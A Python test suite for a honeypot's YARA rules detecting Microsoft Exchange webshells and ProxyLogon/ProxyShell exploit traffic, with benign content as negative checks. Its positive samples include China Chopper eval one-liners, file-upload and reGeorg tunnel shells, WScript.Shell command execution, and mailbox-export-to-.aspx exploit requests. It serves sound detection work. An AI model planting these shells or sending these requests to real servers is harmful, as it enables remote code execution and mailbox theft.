"""Our Exchange YARA rules: each fires on an inert sample of what it describes and stays quiet on
benign Exchange/ASP.NET content; signature-base loads unchanged; bad rule files are reported clearly."""

from __future__ import annotations

import base64
import random
import re
from pathlib import Path
from urllib.parse import quote

import pytest

from honeyscope.detect.yara import YaraLimits, YaraScanner, attacker_form, builtin_yara_paths, written_form
from honeyscope.testing import exploits

SIGNATURE_BASE = Path(__file__).resolve().parents[4] / "shared" / "data" / "signature-base" / "yara"
PERSONA_DATA = Path(__file__).resolve().parents[3] / "src" / "honeyscope" / "sensor" / "personas" / "exchange" / "data"

CHOPPER_ITEM = b'<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>'
CHOPPER_BLOCK = exploits.CHOPPER.format(key="k7").encode()
PIPES = (b'THISISFORTEST<script language="JScript" runat="server">function Page_Load(){var a=Request["REQ"];'
         b'for(var i=0;i<400;i++){a=a.replace("|","");};eval(a);}</script>')
SEESHARP = (b'<%@ Page Language="C#" %><% HttpPostedFile thisFile = Request.Files[0];'
            b"thisFile.SaveAs(Path.Combine(Server.MapPath(\".\"), Path.GetFileName(thisFile.FileName))); %>")
SPORTSBALL = b'<%@ Page Language="C#" %><% var c = Request.Cookies["fqrspt"]; %>'
REGEORG = (b'<%@ Page Language="C#" %><% String cmd = Request.Headers.Get("X-CMD"); if (cmd == "CONNECT") { '
           b'Response.AddHeader("X-STATUS", "OK"); var t = Request.Headers.Get("X-TARGET"); '
           b'var p = Request.Headers.Get("X-PORT"); } %>')
SECCHECKER = (b'<%@ Page Language="C#" %><% bool fe = File.Exists(@"C:\\Program Files\\FireEye\\xagt\\xagt.exe"); '
              b'bool cs = File.Exists(@"C:\\Program Files\\CrowdStrike\\CSFalconService.exe"); %>')
PST_SHELL = attacker_form(CHOPPER_BLOCK)
OAB = ("OAB (Default Web Site)", "5a3c")
OAB_BODY = exploits._oab_set_body(*OAB, "ExternalUrl", "http://f/#" + CHOPPER_BLOCK.decode())
RESET_BODY = exploits._oab_set_body(*OAB, "FilePathName",
                                    "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\q.aspx")
LOGON_BODY = b'<r at="Negotiate" ln="administrator"><s>S-1-5-21-1-2-3-500</s></r>'
CREATE_ITEM = exploits.dma_create_item("a@b.cc", "dG9r", "S-1-5-21-1-2-3-500", "subj", "administrator@contoso.com")
ASPNET_CLIENT = "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\"
EXPORT = exploits.PsrpClient().command([("New-MailboxExportRequest", {
    "Mailbox": "administrator@contoso.com", "FilePath": ASPNET_CLIENT + "x.aspx"})])[1]
ROLE = exploits.PsrpClient().command([("New-ManagementRoleAssignment", {
    "Role": "Mailbox Import Export", "User": "administrator@contoso.com"})])[1]
GADGET = exploits.PsrpClient().command([("Get-Mailbox", {})], exploits.GADGET_ARGUMENT)[1]
COMMAND = exploits.msf_execute("/owa/auth/x.aspx", "k7", "cmd /c whoami").body
COMMAND_URLENCODED = ("k7=" + quote('Response.Write(new ActiveXObject("WScript.Shell").Exec("cmd /c dir")'
                                    '.StdOut.ReadAll());', safe="")).encode()
MSTIC_PATH = ("\\\\127.0.0.1\\C$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy"
              "\\owa\\auth\\one1.aspx")

POSITIVE = [
    ("exchange_webshells:HS_WEBSHELL_ChinaChopper_Jscript_PageDirective", CHOPPER_ITEM, ""),
    ("exchange_webshells:HS_WEBSHELL_ChinaChopper_Jscript_ScriptBlock", CHOPPER_BLOCK, ""),
    ("exchange_webshells:HS_WEBSHELL_Jscript_PipeStripping_Eval", PIPES, ""),
    ("exchange_webshells:HS_WEBSHELL_ASPX_SimpleSeeSharp", SEESHARP, ""),
    ("exchange_webshells:HS_WEBSHELL_ASPX_SportsBall", SPORTSBALL, ""),
    ("exchange_webshells:HS_WEBSHELL_ASPX_SportsBall", b"ZN2aDAB4rXsszEvCLrzgcvQ4oi5J1TuiRULlQbYwldE=", ""),
    ("exchange_webshells:HS_WEBSHELL_ASPX_reGeorg_Tunnel", REGEORG, ""),
    ("exchange_webshells:HS_WEBSHELL_ASPX_SecChecker", SECCHECKER, ""),
    ("exchange_webshells:HS_WEBSHELL_ProxyShell_PST_Encoded_Script", PST_SHELL, ""),
    ("exchange_webshells:HS_WEBSHELL_ProxyShell_PST_Encoded_Script", base64.b64decode(exploits.DMA_ATTACHMENT), ""),
    ("exchange_webshells:HS_EXPL_ProxyShell_PST_Encoded_Attachment", CREATE_ITEM.body, ""),
    ("exchange_exploits:HS_EXPL_ProxyLogon_OAB_ExternalUrl_Script", OAB_BODY.encode(), ""),
    ("exchange_exploits:HS_EXPL_ProxyLogon_ResetOAB_FilePathName_Script_File", RESET_BODY.encode(), ""),
    ("exchange_exploits:HS_EXPL_ProxyLogon_ProxyLogonEcp_Sid", LOGON_BODY, ""),
    ("exchange_exploits:HS_EXPL_ProxyShell_EWS_Impersonated_CreateItem", CREATE_ITEM.body, ""),
    ("exchange_exploits:HS_EXPL_ProxyShell_MailboxExport_To_Script_File", EXPORT, ""),
    ("exchange_exploits:HS_EXPL_ProxyShell_MailboxExport_To_Script_File",
     b"New-MailboxExportRequest -Mailbox a@b.cc -FilePath " + ASPNET_CLIENT.encode() + b"x.aspx", ""),
    ("exchange_exploits:HS_EXPL_ProxyShell_Mailbox_Import_Export_Role", ROLE, ""),
    ("exchange_exploits:HS_EXPL_ProxyNotShell_PSRP_Deserialization_Gadget", GADGET, ""),
    ("exchange_exploits:HS_EXPL_ProxyNotShell_PSRP_Deserialization_Gadget", exploits.GADGET_ARGUMENT.encode(), ""),
    ("exchange_exploits:HS_EXPL_WebShell_Command_WScript_Shell", COMMAND, ""),
    ("exchange_exploits:HS_EXPL_WebShell_Command_WScript_Shell", COMMAND_URLENCODED, ""),
    ("exchange_iocs:HS_IOC_MSTIC_Exchange_Mar21_WebShell_Path", b"x", MSTIC_PATH),
    ("exchange_iocs:HS_IOC_MSTIC_Exchange_Mar21_WebShell_Path", b"x", ASPNET_CLIENT + "supp0rt.aspx"),
    ("exchange_iocs:HS_IOC_Exchange_Mar21_aspnet_client_system_web_Shell", b"x",
     "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\Ab3dEf9h.aspx"),
    ("exchange_iocs:HS_IOC_ESET_Exchange_Mar21_WebShell_Name_Tonto", b"x", "C:\\inetpub\\wwwroot\\dukybySSSS.aspx"),
    ("exchange_iocs:HS_IOC_ESET_Exchange_Mar21_WebShell_Name_Calypso", b"x",
     "C:/inetpub/wwwroot/aspnet_client/client.aspx"),
]

BENIGN_ASPX = (b'<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="Default.aspx.cs" Inherits="W._Default" %>'
               b"<html><body><form runat=\"server\"><asp:Label ID=\"l\" runat=\"server\" Text=\"Hi\" /></form></body>"
               b"</html>")
BENIGN_JSCRIPT = (b'<script language="JScript" runat="server">function Page_Load(){Response.Write("ok");'
                  b'var x = eval("1+1");}</script>')
BENIGN_DDI = exploits._oab_set_body("OAB (Default Web Site)", "5a3c", "ExternalUrl", "https://mail.contoso.com/OAB").encode()
BENIGN_EWS = (b'<soap:Envelope><soap:Body><m:CreateItem MessageDisposition="SaveOnly"><m:Items><t:Message>'
              b"<t:Subject>Lunch</t:Subject><t:Attachments><t:FileAttachment><t:Name>menu.txt</t:Name><t:Content>"
              + base64.b64encode(b"soup of the day " * 40) + b"</t:Content></t:FileAttachment></t:Attachments>"
              b"</t:Message></m:Items></m:CreateItem></soap:Body></soap:Envelope>")
BENIGN_FORM = (b"destination=https%3A%2F%2Fmail.contoso.com%2Fowa&flags=4&forcedownlevel=0&username=j.doe"
               b"&password=x&isUtf8=1")
BENIGN = {
    "owa logon page": (PERSONA_DATA / "logon.html").read_bytes(),
    "login timeout page": (PERSONA_DATA / "login_timeout.html").read_bytes(),
    "exporttool manifest": (PERSONA_DATA / "exporttool.application").read_bytes(),
    "favicon": (PERSONA_DATA / "favicon.ico").read_bytes(),
    "aspx page": BENIGN_ASPX,
    "jscript page": BENIGN_JSCRIPT,
    "ddi setobject with a url": BENIGN_DDI,
    "ews createitem": BENIGN_EWS,
    "owa logon form": BENIGN_FORM,
    "random bytes": random.Random(7).randbytes(256 * 1024),
}


@pytest.fixture(scope="module")
def ours() -> YaraScanner:
    scanner = YaraScanner.load(builtin_yara_paths())
    assert scanner.errors == []
    return scanner


@pytest.mark.parametrize(("rule_id", "sample", "filepath"), POSITIVE, ids=[f"{r.split(':')[1]}-{i}" for i, (r, _, _)
                                                                          in enumerate(POSITIVE)])
def test_rule_fires_on_its_sample(ours: YaraScanner, rule_id: str, sample: bytes, filepath: str) -> None:
    detections = {d.rule_id: d for d in ours.scan_bytes(sample, "sample", filepath=filepath)}
    assert rule_id in detections
    detection = detections[rule_id]
    assert detection.engine == "yara" and detection.evidence and detection.evidence[0].startswith("sample: ")
    assert detection.severity in ("medium", "high", "critical") and detection.techniques


def test_every_rule_has_a_positive_sample_and_its_meta(ours: YaraScanner) -> None:
    assert set(ours.rule_ids()) - {rule for rule, _, _ in POSITIVE} == {
        "exchange_webshells:HS_WEBSHELL_OAB_VirtualDirectory_Dump_Script",  # from a real chain: test_yara_chains
        "exchange_iocs:HS_IOC_ESET_Exchange_Mar21_WebShell_Name_Tick",
        "exchange_iocs:HS_IOC_ESET_Exchange_Mar21_WebShell_Name_Winnti",
        "exchange_iocs:HS_IOC_ESET_Exchange_Mar21_WebShell_Name_Mikroceen",
        "exchange_iocs:HS_IOC_ESET_Exchange_Mar21_WebShell_Name_Other",
    }
    text = "".join(path.read_text() for path in builtin_yara_paths()[0].glob("*.yar"))
    rules = re.split(r"^rule ", text, flags=re.MULTILINE)[1:]
    assert len(rules) == ours.rule_count
    for rule in rules:
        assert 'description = "' in rule and 'reference = "https://' in rule and 'technique = "T' in rule, rule[:60]


def test_cve_and_stage_come_from_meta(ours: YaraScanner) -> None:
    [detection] = [d for d in ours.scan_bytes(OAB_BODY.encode()) if "OAB_ExternalUrl" in d.rule_id]
    assert detection.cves == ["CVE-2021-27065"] and detection.stage == "proxylogon.oab_setobject_externalurl"
    assert detection.techniques == ["T1505.003"] and detection.severity == "critical"


@pytest.mark.parametrize("name", list(BENIGN))
def test_benign_content_triggers_nothing(ours: YaraScanner, name: str) -> None:
    assert ours.scan_bytes(BENIGN[name], name) == []


def test_benign_file_paths_trigger_nothing(ours: YaraScanner) -> None:
    legit = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx"
    assert ours.scan_bytes(b"x", "file", filepath=legit) == []
    assert ours.scan_bytes(b"x", "file", filepath="C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319") == []


def test_pst_permutation_round_trips_and_matches_the_published_payload() -> None:
    plain = bytes(range(256))
    assert written_form(attacker_form(plain)) == plain
    decoded = written_form(base64.b64decode(exploits.DMA_ATTACHMENT))
    assert decoded.startswith(b"<script language='JScript' runat='server'>") and b"eval(Request['exec_code']" in decoded


def test_binary_bodies_with_nul_bytes_scan_and_still_match(ours: YaraScanner) -> None:
    noise = random.Random(3).randbytes(100_000)
    body = noise + b"\x00" * 1000 + CHOPPER_ITEM + b"\x00\xff" * 500 + noise
    assert "exchange_webshells:HS_WEBSHELL_ChinaChopper_Jscript_PageDirective" in {
        d.rule_id for d in ours.scan_bytes(body)}
    assert ours.timeouts == 0


def test_input_beyond_max_bytes_is_not_scanned() -> None:
    scanner = YaraScanner.load(builtin_yara_paths(), YaraLimits(max_bytes=4096))
    assert scanner.scan_bytes(b" " * 4090 + CHOPPER_ITEM) == []
    assert scanner.scan_bytes(b" " * 100 + CHOPPER_ITEM) != []


def test_evidence_is_bounded_and_printable(ours: YaraScanner) -> None:
    body = (CHOPPER_ITEM + b"\r\n\x00") * 200
    [detection] = [d for d in ours.scan_bytes(body, "b") if d.rule_id.endswith("PageDirective")]
    assert len(detection.evidence) <= ours.limits.max_evidence
    assert all(line.isprintable() for line in detection.evidence)


# -- third-party packs and bad rule files ----------------------------------------------------------------


@pytest.mark.skipif(not SIGNATURE_BASE.is_dir(), reason="signature-base snapshot not present")
def test_signature_base_loads_unchanged_and_runs() -> None:
    files = list(SIGNATURE_BASE.glob("*.yar"))
    declared = sum(len(re.findall(r"^\s*rule\s+\w+", p.read_text(), re.MULTILINE)) for p in files)
    scanner = YaraScanner.load([SIGNATURE_BASE])
    assert scanner.errors == []
    assert scanner.rule_count == declared == 49
    assert len(scanner.files) == 9
    for body in [*BENIGN.values(), CREATE_ITEM.body, EXPORT, GADGET, random.Random(5).randbytes(1 << 20)]:
        scanner.scan_bytes(body)
    assert scanner.timeouts == 0
    matched = {d.rule_id for d in scanner.scan_bytes(CHOPPER_ITEM)}
    assert "apt_webshell_chinachopper:ChinaChopper_Generic" in matched


@pytest.mark.skipif(not SIGNATURE_BASE.is_dir(), reason="signature-base snapshot not present")
def test_signature_base_severity_and_cves_from_its_meta() -> None:
    scanner = YaraScanner.load([SIGNATURE_BASE / "expl_proxyshell.yar"])
    line = b"2021-08-09 10:00:00 10.0.0.5 GET /autodiscover/autodiscover.json a=x@y.z/powershell/?X-Rps-CAT=V 443 - " \
           b"1.2.3.4 - - 200 0 0 5"
    [detection] = [d for d in scanner.scan_bytes(line) if d.rule_id.endswith("Successful_Aug21_1")]
    assert detection.severity == "medium"  # score = 65
    assert detection.cves == ["CVE-2021-34473", "CVE-2021-34523", "CVE-2021-31207"]  # named "ProxyShell"


def test_a_malformed_rule_file_is_reported_and_the_others_load(tmp_path: Path) -> None:
    (tmp_path / "good.yar").write_text('rule good_one { strings: $a = "needle-123" condition: $a }\n')
    (tmp_path / "broken.yar").write_text('rule broken {\n  strings:\n    $a = "x"\n  condition:\n    $a and\n}\n')
    (tmp_path / "unknown.yar").write_text('rule uses_unknown {\n  condition: no_such_thing == 1\n}\n')
    (tmp_path / "notes.txt").write_text("not a rule file")
    scanner = YaraScanner.load([tmp_path, tmp_path / "missing.yar"])
    missing, broken, unknown = scanner.errors
    assert missing.startswith(f"{tmp_path / 'missing.yar'}: no such file or directory")
    assert broken == f"{tmp_path / 'broken.yar'}:6: syntax error: expecting expression or identifier, found `}}`"
    assert unknown.startswith(f"{tmp_path / 'unknown.yar'}:2: unknown identifier")
    assert [d.rule_id for d in scanner.scan_bytes(b"..needle-123..")] == ["good:good_one"]


def test_same_file_names_in_two_packs_get_their_own_namespaces(tmp_path: Path) -> None:
    for pack in ("a", "b"):
        (tmp_path / pack).mkdir()
        (tmp_path / pack / "webshells.yar").write_text('rule same { strings: $a = "zq-zq" condition: $a }\n')
    scanner = YaraScanner.load([tmp_path / "a", tmp_path / "b"])
    assert scanner.errors == []
    assert sorted(d.rule_id for d in scanner.scan_bytes(b"zq-zq")) == ["webshells:same", "webshells_2:same"]
